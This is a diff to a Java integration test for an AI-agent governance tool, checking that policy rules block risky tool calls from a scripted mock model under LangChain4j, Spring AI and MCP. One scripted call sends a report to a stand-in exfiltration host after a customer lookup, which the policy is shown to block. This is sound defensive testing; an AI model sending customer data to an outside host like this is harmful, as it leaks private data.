@@ -5,6 +5,8 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import dev.warden.agent.it.apps.McpClientApp;
+import dev.warden.agent.it.apps.SpringToolApp;
 import dev.warden.agent.it.apps.ToolApp;
 import dev.warden.examples.mockmodel.RecordedToolResult;
 import dev.warden.examples.mockmodel.Script;
@@ -18,6 +20,8 @@ import java.util.List;
 import org.junit.jupiter.api.Assumptions;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /**
  * LangChain4j tool calls under the built agent, against the scripted mock model on loopback: an
@@ -28,7 +32,9 @@ import org.junit.jupiter.api.io.TempDir;
  * model's own traffic ({@code parent: model}) still goes through. Evidence carries the session
  * (the chat memory id), the tool as {@code parent} of its SQL (run in a CompletableFuture async
  * stage on a pool thread) and HTTP (on a thread, a virtual thread on JDK 25, started inside the
- * tool), rule and outcome.
+ * tool), rule and outcome. The same for Spring AI, the MCP Java SDK (client and server side),
+ * {@code action: modify} and custom tools from {@code config=FILE}; the LangChain4j, Spring AI and
+ * MCP client scenarios also run on JDK 25 when one is installed (skipped with a message otherwise).
  */
 class ToolCallsIT {
     static final String POLICY = """
@@ -64,45 +70,80 @@ class ToolCallsIT {
                 + Files.readString(AgentRun.libs().resolve("classpath-tools.txt"), StandardCharsets.UTF_8).trim();
     }
 
-    private AgentRun.Result run(Script script, String approvals, Path evidence, ScriptedModelServer[] server) throws Exception {
-        return run(script, approvals, evidence, server, null);
-    }
-
-    private AgentRun.Result run(Script script, String approvals, Path evidence, ScriptedModelServer[] server, Path java) throws Exception {
-        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
-        ScriptedModelServer model = ScriptedModelServer.start(script);
-        server[0] = model;
-        AgentRun run = new AgentRun()
-                .agent("policy=" + policy + ",agent=tools-it,evidence=" + evidence + ",approvals=" + approvals)
-                .main(ToolApp.class, model.baseUrl(), "session-42");
-        run.classpath = toolsClasspath();
-        if (java != null) {
-            run.java = java;
+    /** One forked agent application and what it left: its output, what the mock model received, the evidence. */
+    record Run(AgentRun.Result result, ScriptedModelServer model, Evidence evidence) {
+        /** The tool result the model received for {@code tool} called with arguments containing {@code argsFragment}. */
+        String toolResult(String tool, String argsFragment) {
+            return model.toolResults().stream().filter(t -> t.toolName().equals(tool) && t.arguments().contains(argsFragment)).findFirst()
+                    .map(RecordedToolResult::content)
+                    .orElseThrow(() -> new AssertionError("the model never received a result of " + tool + " " + argsFragment + ": " + model.toolResults()));
         }
-        return run.run();
+
+        List<String> toolsRan() {
+            return result.lines().stream().filter(l -> l.startsWith("tool ran: ")).toList();
+        }
     }
 
-    private static RecordedToolResult result(ScriptedModelServer model, String tool, String argsFragment) {
-        return model.toolResults().stream().filter(t -> t.toolName().equals(tool) && t.arguments().contains(argsFragment)).findFirst()
-                .orElseThrow(() -> new AssertionError("the model never received a result of " + tool + " " + argsFragment + ": " + model.toolResults()));
+    /**
+     * Runs {@code app} (a tool application taking the model's base URL and a session id) under the
+     * agent with {@code policyText}, against a mock model playing {@code script}; {@code java}
+     * null runs the build's JDK. Asserts the application exited normally.
+     */
+    Run run(Class<?> app, String policyText, Script script, String session, String agentArgs, Path java) throws Exception {
+        String name = app.getSimpleName() + "-" + Math.abs(System.nanoTime() % 100000);
+        Path policy = Files.writeString(tmp.resolve(name + ".yaml"), policyText);
+        Path evidence = tmp.resolve("evidence-" + name);
+        AgentRun.Result r;
+        try (ScriptedModelServer model = ScriptedModelServer.start(script)) {
+            AgentRun run = new AgentRun()
+                    .agent("policy=" + policy + ",agent=tools-it,evidence=" + evidence + (agentArgs.isEmpty() ? "" : "," + agentArgs))
+                    .main(app, model.baseUrl(), session);
+            run.classpath = toolsClasspath();
+            if (java != null) {
+                run.java = java;
+            }
+            r = run.run();
+            assertEquals(0, r.exit(), r::toString);
+            assertTrue(model.errors().isEmpty(), model.errors()::toString);
+            return new Run(r, model, Evidence.read(evidence));
+        }
+    }
+
+    /** A JDK 25 under /usr/lib/jvm, or the test is skipped with a line on stderr saying so. */
+    static Path jdk25(String test) {
+        java.util.Optional<Path> jdk25 = AgentRun.jdk25();
+        if (jdk25.isEmpty()) {
+            System.err.println(test + ": SKIPPED — no JDK 25 under /usr/lib/jvm (a directory whose release file says JAVA_VERSION=\"25...\")");
+        }
+        Assumptions.assumeTrue(jdk25.isPresent(), "no JDK 25 under /usr/lib/jvm");
+        return jdk25.get();
+    }
+
+    /** Every tool decision carries the framework's session, its source and the framework. */
+    static void assertToolSessions(Evidence ev, int count, String session, String source, String framework) {
+        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
+        assertEquals(count, tools.size(), ev.dump());
+        for (EvidenceRecord d : tools) {
+            assertEquals(session, d.session, d.toString());
+            assertEquals(source, d.sessionSource, d.toString());
+            assertEquals(framework, d.attributes.get("framework"), d.toString());
+        }
     }
 
     @Test
     void toolsAreGovernedAndTheModelStillAnswers() throws Exception {
-        AgentRun.Result r = scenario(null);
-        assertEquals("false", r.value("http on a virtual thread"));
+        Run run = scenario(null);
+        assertEquals("false", run.result().value("http on a virtual thread"));
     }
 
     /** JDK 25: the same, with the upload on a virtual thread started inside the tool. */
     @Test
     void onJdk25WithAVirtualThread() throws Exception {
-        java.util.Optional<Path> jdk25 = AgentRun.jdk25();
-        Assumptions.assumeTrue(jdk25.isPresent(), "no JDK 25 under /usr/lib/jvm");
-        AgentRun.Result r = scenario(jdk25.get());
-        assertEquals("true", r.value("http on a virtual thread"));
+        Run run = scenario(jdk25("ToolCallsIT.onJdk25WithAVirtualThread"));
+        assertEquals("true", run.result().value("http on a virtual thread"));
     }
 
-    private AgentRun.Result scenario(Path java) throws Exception {
+    private Run scenario(Path java) throws Exception {
         Script script = Script.builder()
                 .toolCalls(call("lookupCustomer", "{\"id\":\"c1\"}"))
                 .toolCalls(call("sendReport", "{\"url\":\"http://exfil.example.net/upload\"}"))
@@ -112,42 +153,25 @@ class ToolCallsIT {
                 .toolCalls(call("deleteAccount", "{\"id\":\"c1\"}"))
                 .text("done")
                 .build();
-        Path evidence = tmp.resolve("evidence");
-        ScriptedModelServer[] server = new ScriptedModelServer[1];
-        AgentRun.Result r;
-        try {
-            r = run(script, "deny", evidence, server, java);
-        } finally {
-            if (server[0] != null) {
-                server[0].close();
-            }
-        }
-        ScriptedModelServer model = server[0];
-        assertEquals(0, r.exit(), r::toString);
+        Run run = run(ToolApp.class, POLICY, script, "session-42", "approvals=deny", java);
+        AgentRun.Result r = run.result();
         assertEquals("done", r.value("answer"), r::toString);
-        assertTrue(model.errors().isEmpty(), model.errors()::toString);
         assertEquals("true", r.value("sql on another thread"));
-
-        List<String> ran = r.lines().stream().filter(l -> l.startsWith("tool ran: ")).toList();
         assertEquals(List.of("tool ran: lookupCustomer c1", "tool ran: sendReport http://exfil.example.net/upload",
-                "tool ran: issueRefund o2 100.0", "tool ran: sendEmail a@x", "tool ran: sendEmail b@x"), ran, r::toString);
+                "tool ran: issueRefund o2 100.0", "tool ran: sendEmail a@x", "tool ran: sendEmail b@x"), run.toolsRan(), r::toString);
 
         // what the model saw
-        assertTrue(result(model, "issueRefund", "o1").content().startsWith("Blocked by policy big-refunds-need-approval: "), model.toolResults()::toString);
-        assertEquals("refunded 100.0", result(model, "issueRefund", "o2").content());
-        assertTrue(result(model, "sendEmail", "c@x").content().startsWith("Blocked by policy email-rate: "), model.toolResults()::toString);
-        assertTrue(result(model, "deleteAccount", "c1").content().startsWith("Blocked by policy no-account-deletion: "), model.toolResults()::toString);
-        String upload = result(model, "sendReport", "exfil").content();
+        assertTrue(run.toolResult("issueRefund", "o1").startsWith("Blocked by policy big-refunds-need-approval: "), r::toString);
+        assertEquals("refunded 100.0", run.toolResult("issueRefund", "o2"));
+        assertTrue(run.toolResult("sendEmail", "c@x").startsWith("Blocked by policy email-rate: "), r::toString);
+        assertTrue(run.toolResult("deleteAccount", "c1").startsWith("Blocked by policy no-account-deletion: "), r::toString);
+        String upload = run.toolResult("sendReport", "exfil");
         assertTrue(upload.startsWith("upload failed: Blocked by policy "), upload);
 
-        Evidence ev = Evidence.read(evidence);
-        // tool decisions: session from the chat memory id, rule and outcome
-        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
-        assertEquals(8, tools.size(), ev.dump());
-        for (EvidenceRecord d : tools) {
-            assertEquals("session-42", d.session, d.toString());
-            assertEquals("langchain4j-memory-id", d.sessionSource, d.toString());
-            assertEquals("langchain4j", d.attributes.get("framework"), d.toString());
+        Evidence ev = run.evidence();
+        // tool decisions: session from the chat memory id, rule and outcome; one per call (the @Tool methods the framework invokes are not counted again)
+        assertToolSessions(ev, 8, "session-42", "langchain4j-memory-id", "langchain4j");
+        for (EvidenceRecord d : ev.decisions(d -> "tool".equals(d.kind))) {
             assertTrue(d.argsDigest != null && d.argsDigest.startsWith("hmac-sha256:"), d.toString());
             assertFalse(d.toString().contains("o1\""), "tool arguments reached the evidence in clear: " + d);
         }
@@ -171,109 +195,122 @@ class ToolCallsIT {
         assertTrue(exfil.rules.contains("no-export-after-customer-read"), "the sequence rule across threads: " + exfil);
 
         // the model's own traffic: parent model, allowed before and after the customer read
+        assertModelTrafficAllowed(ev, 7, "session-42");
+        return run;
+    }
+
+    private static void assertModelTrafficAllowed(Evidence ev, int requests, String session) {
         List<EvidenceRecord> modelCalls = ev.decisions(d -> "http".equals(d.kind) && "model".equals(d.parent));
-        assertEquals(7, modelCalls.size(), ev.dump());
+        assertEquals(requests, modelCalls.size(), ev.dump());
         for (EvidenceRecord d : modelCalls) {
             assertEquals("allow", d.decision, d.toString());
-            assertEquals("session-42", d.session, d.toString());
+            assertEquals(session, d.session, d.toString());
         }
-        return r;
     }
 
     @Test
     void anApprovedEscalationRuns() throws Exception {
-        Script script = Script.builder()
-                .toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}"))
-                .text("refunded")
-                .build();
-        Path evidence = tmp.resolve("evidence");
-        ScriptedModelServer[] server = new ScriptedModelServer[1];
-        AgentRun.Result r;
-        try {
-            r = run(script, "allow", evidence, server);
-        } finally {
-            if (server[0] != null) {
-                server[0].close();
-            }
-        }
-        assertEquals(0, r.exit(), r::toString);
-        assertTrue(r.lines().contains("tool ran: issueRefund o1 600.0"), r::toString);
-        assertEquals("refunded 600.0", result(server[0], "issueRefund", "o1").content());
-        Evidence ev = Evidence.read(evidence);
-        EvidenceRecord d = ev.decisions(x -> "issueRefund".equals(x.target)).get(0);
+        Script script = Script.builder().toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}")).text("refunded").build();
+        Run run = run(ToolApp.class, POLICY, script, "session-42", "approvals=allow", null);
+        assertEquals(List.of("tool ran: issueRefund o1 600.0"), run.toolsRan(), run.result()::toString);
+        assertEquals("refunded 600.0", run.toolResult("issueRefund", "o1"));
+        EvidenceRecord d = run.evidence().decisions(x -> "issueRefund".equals(x.target)).get(0);
         assertEquals("allow", d.decision, d.toString());
         assertTrue(d.rules.contains("big-refunds-need-approval"), d.toString());
         assertEquals("approved", d.approvalDecision, d.toString());
         assertEquals("approvals=allow", d.approver, d.toString());
-        assertEquals("ok", ev.outcomeOf(d).outcomeStatus, ev.dump());
+        assertEquals("ok", run.evidence().outcomeOf(d).outcomeStatus, run.evidence().dump());
     }
 
     /** Spring AI: the same refusal path (the refusal text is the tool result), escalation and session. */
     @Test
     void springAiToolsAreGoverned() throws Exception {
-        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
-        Path evidence = tmp.resolve("evidence");
+        springAi(null);
+    }
+
+    /** The Spring AI scenario on JDK 25 (the smoke subset). */
+    @Test
+    void springAiOnJdk25() throws Exception {
+        springAi(jdk25("ToolCallsIT.springAiOnJdk25"));
+    }
+
+    private void springAi(Path java) throws Exception {
         Script script = Script.builder()
                 .toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}"), call("issueRefund", "{\"orderId\":\"o2\",\"amount\":100}"),
                         call("deleteAccount", "{\"id\":\"c1\"}"))
                 .text("done")
                 .build();
-        AgentRun.Result r;
-        try (ScriptedModelServer model = ScriptedModelServer.start(script)) {
-            AgentRun run = new AgentRun()
-                    .agent("policy=" + policy + ",agent=spring-it,evidence=" + evidence + ",approvals=deny")
-                    .main(dev.warden.agent.it.apps.SpringToolApp.class, model.baseUrl(), "conversation-7");
-            run.classpath = toolsClasspath();
-            r = run.run();
-            assertEquals(0, r.exit(), r::toString);
-            assertEquals("done", r.value("answer"), r::toString);
-            List<String> ran = r.lines().stream().filter(l -> l.startsWith("tool ran: ")).toList();
-            assertEquals(List.of("tool ran: issueRefund o2 100.0"), ran, r::toString);
-            assertTrue(result(model, "issueRefund", "o1").content().contains("Blocked by policy big-refunds-need-approval: "), model.toolResults()::toString);
-            assertTrue(result(model, "deleteAccount", "c1").content().contains("Blocked by policy no-account-deletion: "), model.toolResults()::toString);
-        }
-        Evidence ev = Evidence.read(evidence);
-        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
-        assertEquals(3, tools.size(), ev.dump());
-        for (EvidenceRecord d : tools) {
-            assertEquals("conversation-7", d.session, d.toString());
-            assertEquals("spring-ai-conversation-id", d.sessionSource, d.toString());
-            assertEquals("spring-ai", d.attributes.get("framework"), d.toString());
-        }
+        Run run = run(SpringToolApp.class, POLICY, script, "conversation-7", "approvals=deny", java);
+        assertEquals("done", run.result().value("answer"), run.result()::toString);
+        assertEquals(List.of("tool ran: issueRefund o2 100.0"), run.toolsRan(), run.result()::toString);
+        assertTrue(run.toolResult("issueRefund", "o1").contains("Blocked by policy big-refunds-need-approval: "), run.model().toolResults()::toString);
+        assertTrue(run.toolResult("deleteAccount", "c1").contains("Blocked by policy no-account-deletion: "), run.model().toolResults()::toString);
+        Evidence ev = run.evidence();
+        // one decision per call: the @Tool methods MethodToolCallback invokes are not counted again
+        assertToolSessions(ev, 3, "conversation-7", "spring-ai-conversation-id", "spring-ai");
         assertEquals("denied", ev.decisions(d -> "issueRefund".equals(d.target) && !d.rules.isEmpty()).get(0).approvalDecision, ev.dump());
-        List<EvidenceRecord> modelCalls = ev.decisions(d -> "http".equals(d.kind) && "model".equals(d.parent));
-        assertEquals(2, modelCalls.size(), ev.dump());
-        modelCalls.forEach(d -> assertEquals("allow", d.decision, d.toString()));
+        assertModelTrafficAllowed(ev, 2, "conversation-7");
     }
 
-    /** MCP Java SDK client calling a real MCP server (a forked JVM over stdio, no agent in it). */
-    @Test
-    void mcpClientToolCallsAreGoverned() throws Exception {
+    /**
+     * {@link McpClientApp} (MCP Java SDK sync client) calling {@link dev.warden.agent.it.apps.McpServerApp} over stdio;
+     * {@code clientAgent}/{@code serverAgent}: the agent arguments of the client JVM and the
+     * {@code -javaagent} option of the server JVM (either null). Asserts what both sides see.
+     */
+    private Evidence mcp(String clientAgent, String serverAgent, Path java) throws Exception {
         Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
         Path evidence = tmp.resolve("evidence");
         Path markers = Files.createDirectories(tmp.resolve("markers"));
-        AgentRun run = new AgentRun()
-                .agent("policy=" + policy + ",agent=mcp-it,evidence=" + evidence + ",approvals=deny")
-                .main(dev.warden.agent.it.apps.McpClientApp.class, markers.toString(), toolsClasspath());
+        String agentArgs = "policy=" + policy + ",evidence=" + evidence + ",approvals=deny,agent=";
+        AgentRun run = serverAgent == null
+                ? new AgentRun().agent(agentArgs + clientAgent).main(McpClientApp.class, markers.toString(), toolsClasspath())
+                : new AgentRun().main(McpClientApp.class, markers.toString(), toolsClasspath(),
+                        "-javaagent:" + AgentRun.agentJar() + "=" + agentArgs + serverAgent);
         run.classpath = toolsClasspath();
+        if (java != null) {
+            run.java = java;
+        }
         AgentRun.Result r = run.run();
         assertEquals(0, r.exit(), r::toString);
         assertTrue(r.value("big refund").startsWith("error=true Blocked by policy big-refunds-need-approval: "), r::toString);
         assertTrue(r.value("small refund").startsWith("error=false issueRefund done"), r::toString);
         assertTrue(r.value("delete").startsWith("error=true Blocked by policy no-account-deletion: "), r::toString);
-        assertFalse(Files.exists(markers.resolve("issueRefund-o1")), "the denied refund reached the server");
+        assertFalse(Files.exists(markers.resolve("issueRefund-o1")), "the denied refund ran on the server");
         assertTrue(Files.exists(markers.resolve("issueRefund-o2")), "the allowed refund never ran");
-        assertFalse(Files.exists(markers.resolve("deleteAccount-c1")), "the denied deletion reached the server");
-
+        assertFalse(Files.exists(markers.resolve("deleteAccount-c1")), "the denied deletion ran on the server");
         Evidence ev = Evidence.read(evidence);
         List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
         assertEquals(3, tools.size(), ev.dump());
-        for (EvidenceRecord d : tools) {
-            assertEquals("mcp", d.attributes.get("framework"), d.toString());
+        tools.forEach(d -> assertEquals("mcp", d.attributes.get("framework"), d.toString()));
+        assertEquals("denied", ev.decisions(d -> "issueRefund".equals(d.target) && !d.rules.isEmpty()).get(0).approvalDecision, ev.dump());
+        assertEquals("ok", ev.outcomeOf(ev.decisions(d -> "issueRefund".equals(d.target) && "allow".equals(d.decision)).get(0)).outcomeStatus, ev.dump());
+        return ev;
+    }
+
+    /** MCP Java SDK client calling a real MCP server (a forked JVM over stdio, no agent in it). */
+    @Test
+    void mcpClientToolCallsAreGoverned() throws Exception {
+        assertMcpClientSessions(mcp("mcp-it", null, null));
+    }
+
+    /** The MCP client scenario on JDK 25 (the smoke subset). */
+    @Test
+    void mcpClientOnJdk25() throws Exception {
+        assertMcpClientSessions(mcp("mcp-it", null, jdk25("ToolCallsIT.mcpClientOnJdk25")));
+    }
+
+    private static void assertMcpClientSessions(Evidence ev) {
+        for (EvidenceRecord d : ev.decisions(x -> "tool".equals(x.kind))) {
             assertEquals("mcp-client", d.sessionSource, d.toString());
             assertTrue(d.session.startsWith("mcp-client:"), d.toString());
         }
-        assertEquals("denied", ev.decisions(d -> "issueRefund".equals(d.target) && !d.rules.isEmpty()).get(0).approvalDecision, ev.dump());
+    }
+
+    /** MCP server side: the server JVM runs under the agent and refuses the tool calls itself. */
+    @Test
+    void mcpServerToolCallsAreGoverned() throws Exception {
+        Evidence ev = mcp(null, "mcp-server-it", null);
+        ev.decisions(d -> "tool".equals(d.kind)).forEach(d -> assertEquals("mcp-session", d.sessionSource, d.toString()));
     }
 
     static final String CLAMP = """
@@ -288,28 +325,17 @@ class ToolCallsIT {
             """;
 
     /** {@code action: modify} on tool arguments: the tool runs with the clamped amount, in LangChain4j and Spring AI. */
-    @Test
-    void modifiedArgumentsReachTheTool() throws Exception {
-        Path policy = Files.writeString(tmp.resolve("clamp.yaml"), CLAMP);
-        for (Class<?> app : List.of(ToolApp.class, dev.warden.agent.it.apps.SpringToolApp.class)) {
-            Path evidence = tmp.resolve("evidence-" + app.getSimpleName());
-            Script script = Script.builder().toolCalls(call("issueRefund", "{\"orderId\":\"o9\",\"amount\":900}")).text("done").build();
-            try (ScriptedModelServer model = ScriptedModelServer.start(script)) {
-                AgentRun run = new AgentRun()
-                        .agent("policy=" + policy + ",agent=modify-it,evidence=" + evidence)
-                        .main(app, model.baseUrl(), "session-m");
-                run.classpath = toolsClasspath();
-                AgentRun.Result r = run.run();
-                assertEquals(0, r.exit(), r::toString);
-                assertTrue(r.lines().contains("tool ran: issueRefund o9 500.0"), r::toString);
-                assertEquals("refunded 500.0", result(model, "issueRefund", "o9").content().replace("\"", ""));
-            }
-            Evidence ev = Evidence.read(evidence);
-            EvidenceRecord d = ev.decisions(x -> "issueRefund".equals(x.target)).get(0);
-            assertEquals("modify", d.decision, d.toString());
-            assertTrue(d.rules.contains("clamp-refunds"), d.toString());
-            assertEquals("ok", ev.outcomeOf(d).outcomeStatus, ev.dump());
-        }
+    @ParameterizedTest
+    @ValueSource(classes = {ToolApp.class, SpringToolApp.class})
+    void modifiedArgumentsReachTheTool(Class<?> app) throws Exception {
+        Script script = Script.builder().toolCalls(call("issueRefund", "{\"orderId\":\"o9\",\"amount\":900}")).text("done").build();
+        Run run = run(app, CLAMP, script, "session-m", "", null);
+        assertEquals(List.of("tool ran: issueRefund o9 500.0"), run.toolsRan(), run.result()::toString);
+        assertEquals("refunded 500.0", run.toolResult("issueRefund", "o9").replace("\"", ""));
+        EvidenceRecord d = run.evidence().decisions(x -> "issueRefund".equals(x.target)).get(0);
+        assertEquals("modify", d.decision, d.toString());
+        assertTrue(d.rules.contains("clamp-refunds"), d.toString());
+        assertEquals("ok", run.evidence().outcomeOf(d).outcomeStatus, run.evidence().dump());
     }
 
     /**
@@ -318,53 +344,15 @@ class ToolCallsIT {
      */
     @Test
     void aTimedOutEscalationIsBlocked() throws Exception {
-        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
-        Path evidence = tmp.resolve("evidence");
         Script script = Script.builder().toolCalls(call("issueRefund", "{\"orderId\":\"o1\",\"amount\":600}")).text("done").build();
-        try (ScriptedModelServer model = ScriptedModelServer.start(script)) {
-            AgentRun run = new AgentRun()
-                    .agent("policy=" + policy + ",agent=timeout-it,evidence=" + evidence + ",collector=127.0.0.1:9,approvals=collector")
-                    .main(ToolApp.class, model.baseUrl(), "session-t");
-            run.classpath = toolsClasspath();
-            AgentRun.Result r = run.run();
-            assertEquals(0, r.exit(), r::toString);
-            assertFalse(r.stdout().contains("tool ran: issueRefund"), r::toString);
-            assertTrue(result(model, "issueRefund", "o1").content().startsWith("Blocked by policy big-refunds-need-approval: "), model.toolResults()::toString);
-        }
-        Evidence ev = Evidence.read(evidence);
-        EvidenceRecord d = ev.decisions(x -> "issueRefund".equals(x.target)).get(0);
+        Run run = run(ToolApp.class, POLICY, script, "session-t", "collector=127.0.0.1:9,approvals=collector", null);
+        assertEquals(List.of(), run.toolsRan(), run.result()::toString);
+        assertTrue(run.toolResult("issueRefund", "o1").startsWith("Blocked by policy big-refunds-need-approval: "), run.model().toolResults()::toString);
+        EvidenceRecord d = run.evidence().decisions(x -> "issueRefund".equals(x.target)).get(0);
         assertEquals("deny", d.decision, d.toString());
         assertTrue(List.of("timeout", "unavailable").contains(d.approvalDecision), d.toString());
         assertTrue(d.approvalWaitedMs >= 1500, "the call did not wait for the approval timeout: " + d);
         assertEquals(null, d.approver, d.toString());
-    }
-
-    /** MCP server side: the server JVM runs under the agent and refuses the tool calls itself. */
-    @Test
-    void mcpServerToolCallsAreGoverned() throws Exception {
-        Path policy = Files.writeString(tmp.resolve("policy.yaml"), POLICY);
-        Path evidence = tmp.resolve("evidence");
-        Path markers = Files.createDirectories(tmp.resolve("markers"));
-        String serverAgent = "-javaagent:" + AgentRun.agentJar() + "=policy=" + policy + ",agent=mcp-server-it,evidence=" + evidence + ",approvals=deny";
-        AgentRun run = new AgentRun().main(dev.warden.agent.it.apps.McpClientApp.class, markers.toString(), toolsClasspath(), serverAgent);
-        run.classpath = toolsClasspath();
-        AgentRun.Result r = run.run();
-        assertEquals(0, r.exit(), r::toString);
-        assertTrue(r.value("big refund").startsWith("error=true Blocked by policy big-refunds-need-approval: "), r::toString);
-        assertTrue(r.value("small refund").startsWith("error=false issueRefund done"), r::toString);
-        assertTrue(r.value("delete").startsWith("error=true Blocked by policy no-account-deletion: "), r::toString);
-        assertFalse(Files.exists(markers.resolve("issueRefund-o1")), "the denied refund ran on the server");
-        assertTrue(Files.exists(markers.resolve("issueRefund-o2")), "the allowed refund never ran");
-        assertFalse(Files.exists(markers.resolve("deleteAccount-c1")), "the denied deletion ran on the server");
-
-        Evidence ev = Evidence.read(evidence);
-        List<EvidenceRecord> tools = ev.decisions(d -> "tool".equals(d.kind));
-        assertEquals(3, tools.size(), ev.dump());
-        for (EvidenceRecord d : tools) {
-            assertEquals("mcp", d.attributes.get("framework"), d.toString());
-            assertEquals("mcp-session", d.sessionSource, d.toString());
-        }
-        assertEquals("ok", ev.outcomeOf(ev.decisions(d -> "issueRefund".equals(d.target) && "allow".equals(d.decision)).get(0)).outcomeStatus, ev.dump());
     }
 
     /** A custom tool ({@code class#method} from {@code config=FILE}): arguments by parameter name; a denial is the block exception. */
